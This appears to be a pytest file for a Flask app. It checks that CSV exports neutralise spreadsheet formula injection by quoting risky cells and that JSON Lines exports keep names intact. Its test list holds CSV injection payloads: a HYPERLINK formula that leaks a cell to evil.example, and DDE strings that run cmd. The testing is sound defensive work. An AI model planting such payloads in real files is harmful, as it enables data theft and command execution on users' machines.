"""CSV exports carry no live formulas (OWASP CSV injection); JSON Lines stay exact."""

from __future__ import annotations

import csv
import io
import json

from flask.testing import FlaskClient

from artifacts_app.artifacts.exports import inert_cell
from artifacts_app.models import User
from tests.factories import make_run

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "\rleading carriage return",
]


def test_every_formula_start_gets_a_leading_quote_and_nothing_else_changes() -> None:
    for name in HOSTILE_NAMES:
        assert inert_cell(name) == "'" + name
    for harmless in ("Research brief", "gpt-4o", "0.000350000000", "a=b", "", " =x"):
        assert inert_cell(harmless) == harmless
    assert inert_cell(1234) == 1234


def test_csv_export_neutralises_hostile_pipeline_and_model_names(signed_in: FlaskClient, user: User) -> None:
    for name in HOSTILE_NAMES:
        make_run(user, pipeline=name, model=name)
    response = signed_in.get("/artifacts/export?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    # Pipeline names are stored stripped, so the tab and CR cases reach the CSV through the model.
    assert sorted(row["pipeline"] for row in rows) == sorted(str(inert_cell(name.strip())) for name in HOSTILE_NAMES)
    assert sorted(row["model"] for row in rows) == sorted("'" + name for name in HOSTILE_NAMES)
    # No cell of the file, header included, starts like a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # Numbers stay numbers a spreadsheet can add up.
    assert {row["input_tokens"] for row in rows} == {"1234"}


def test_jsonl_export_keeps_the_names_exactly(signed_in: FlaskClient, user: User) -> None:
    for name in HOSTILE_NAMES:
        make_run(user, pipeline=name, model=name)
    response = signed_in.get("/artifacts/export?format=jsonl")
    *documents, summary = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert summary == {"export": {"runs": len(HOSTILE_NAMES), "complete": True}}
    assert sorted(doc["pipeline"] for doc in documents) == sorted(name.strip() for name in HOSTILE_NAMES)
    assert sorted(doc["model"] for doc in documents) == sorted(HOSTILE_NAMES)
